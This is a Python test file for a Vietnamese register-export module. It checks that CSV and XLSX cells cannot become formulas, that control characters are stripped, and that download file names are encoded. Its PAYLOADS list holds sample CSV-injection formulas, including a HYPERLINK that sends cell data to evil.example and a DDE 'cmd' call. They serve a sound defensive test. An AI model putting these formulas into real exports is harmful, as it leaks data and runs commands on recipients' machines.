"""A register's export (ecabinet.registers.exports), without a register: .csv and .xlsx in
which no cell can become a formula (whatever text a drafter, a sender or a recipient wrote),
and the download's name in Vietnamese (RFC 6266)."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from ecabinet.registers import exports

#: Each way a cell can start a formula in Excel or LibreOffice (OWASP: CSV injection).
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A4,"Xem chi tiết")', "+1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def table(*rows) -> exports.Table:
    return exports.Table(title="SỔ THỬ NĂM 2026", sheet="Sổ thử 2026",
                         columns=("Số", "Trích yếu", "Nơi gửi"), widths=(8, 60, 30), rows=rows)


def xlsx_rows(data: bytes) -> list:
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=4))


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_cannot_start_a_formula(payload):
    header, row = csv_rows(exports.to_csv(table((1, payload, "Văn phòng Chính phủ"))))
    assert header == ["Số", "Trích yếu", "Nơi gửi"]
    assert row == ["1", "'" + payload, "Văn phòng Chính phủ"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_cell_is_never_a_formula(payload):
    (row,) = xlsx_rows(exports.to_xlsx(table((1, payload, payload))))
    assert [cell.data_type for cell in row] == ["n", "s", "s"]
    assert [cell.value for cell in row] == [1, payload, payload]  # the text kept as it is


def test_the_xlsx_has_the_title_the_columns_and_the_widths():
    data = exports.to_xlsx(table((1, "Về việc phê duyệt", None), (2, "Về phiên họp", "Bộ")))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Sổ thử 2026"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["SỔ THỬ NĂM 2026", None, None], [None, None, None], ["Số", "Trích yếu", "Nơi gửi"],
        [1, "Về việc phê duyệt", None], [2, "Về phiên họp", "Bộ"]]
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [8, 60, 30]


def test_a_control_character_does_not_break_the_xlsx():
    """openpyxl refuses a whole file for one control character (typed into a summary)."""
    (row,) = xlsx_rows(exports.to_xlsx(table((1, "Về\x01 việc\x1f", "Bộ"))))
    assert row[1].value == "Về việc"


def test_numbers_stay_numbers_and_nothing_stays_empty():
    _header, row = csv_rows(exports.to_csv(table((-5, None, ""))))
    assert row == ["-5", "", ""]  # a number is no text that could start a formula


def test_a_vietnamese_download_name():
    response = exports.download(table((1, "x", "y")), "xlsx", "Sổ văn bản đến Đà Nẵng 2026")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    # every client: the letters kept (đ/Đ have no decomposition, a plain NFKD fold drops them)
    assert 'filename="So van ban den Da Nang 2026.xlsx"' in disposition
    # browsers: UTF-8, percent-encoded (RFC 5987)
    encoded = disposition.split("filename*=", 1)[1]
    assert encoded.startswith("UTF-8''") and encoded.isascii() and " " not in encoded
    assert unquote(encoded.removeprefix("UTF-8''")) == "Sổ văn bản đến Đà Nẵng 2026.xlsx"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.mimetype == exports.MIMETYPES["xlsx"]
    assert xlsx_rows(response.get_data())[0][0].value == 1


def test_an_ascii_download_name_is_left_as_it_is():
    response = exports.download(table(), "csv", "so-van-ban-di-2026")
    assert response.headers["Content-Disposition"] == "attachment; filename=so-van-ban-di-2026.csv"
    assert response.mimetype == "text/csv"
    assert response.get_data().startswith("\ufeffSố,".encode())
